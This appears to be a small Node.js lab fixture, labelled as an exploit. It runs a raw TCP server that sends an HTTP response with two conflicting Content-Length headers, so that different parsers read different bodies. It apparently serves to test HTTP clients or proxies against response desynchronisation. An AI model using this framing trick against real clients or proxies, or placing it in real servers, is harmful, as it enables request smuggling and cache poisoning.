// exploit: gives two lengths for one body, so that two readers see two bodies
// kind: lab
// exchange: not-http
// outcome: finished
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.end('HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello')
}).listen(process.env.PORT)
